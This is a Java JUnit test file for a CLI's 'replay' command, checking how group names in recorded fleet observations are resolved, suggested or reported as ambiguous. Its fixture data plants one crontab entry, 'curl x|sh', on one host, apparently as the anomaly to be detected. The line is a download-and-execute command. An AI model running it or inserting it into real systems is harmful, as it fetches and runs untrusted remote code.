package io.diffy.replay;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.diffy.acceptance.it.Cli;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Which group of a recording a person means. */
final class GroupOfAReplayTest {
  private static final String BLUE = "\"account\":\"1\",\"region\":\"us-east-1\",\"asg\":\"web\"";
  private static final String RED = "\"account\":\"2\",\"region\":\"us-east-1\",\"asg\":\"web\"";

  @TempDir Path folder;

  @Test
  void aPlainNameThatFitsOneGroupIsThatGroup() throws Exception {
    Cli replay = replay("web", BLUE, "\"asg\":\"db\"");
    assertEquals(1, replay.exitCode(), replay::err);
    assertTrue(replay.err().contains("web is the group 1:us-east-1:web"), replay.err());
    assertTrue(replay.err().contains("8 observations judged"), replay.err());
  }

  @Test
  void aGroupThatIsNotThereIsAFailureThatNamesTheNearest() throws Exception {
    Cli replay = replay("wbe", BLUE, "\"asg\":\"db\"");
    assertEquals(3, replay.exitCode(), replay::out);
    assertTrue(
        replay
            .err()
            .contains(
                "there is no group \"wbe\"; did you mean web or db? There are 2: 1:us-east-1:web, db"),
        replay.err());
  }

  @Test
  void aPlainNameThatFitsSeveralGroupsNamesThem() throws Exception {
    Cli replay = replay("web", BLUE, RED);
    assertEquals(3, replay.exitCode(), replay::out);
    assertTrue(replay.err().contains("1:us-east-1:web, 2:us-east-1:web"), replay.err());
  }

  private Cli replay(String group, String... groups) throws Exception {
    StringBuilder lines = new StringBuilder();
    for (String of : groups) {
      for (int host = 1; host <= 8; host++) {
        String rows = "{\"command\":\"true\",\"path\":\"/etc/crontab\"}";
        lines.append(
            "{%s,\"instance_id\":\"i-%d\",\"query\":\"crontab\",\"collected_at\":\"2026-11-20T03:10:00Z\",\"rows\":[%s]}%n"
                .formatted(
                    of, host, host == 5 ? rows + "," + rows.replace("true", "curl x|sh") : rows));
      }
    }
    Path file = Files.writeString(folder.resolve("in.ndjson"), lines);
    return Cli.diffy("replay", "--input", file.toString(), "--group", group);
  }
}
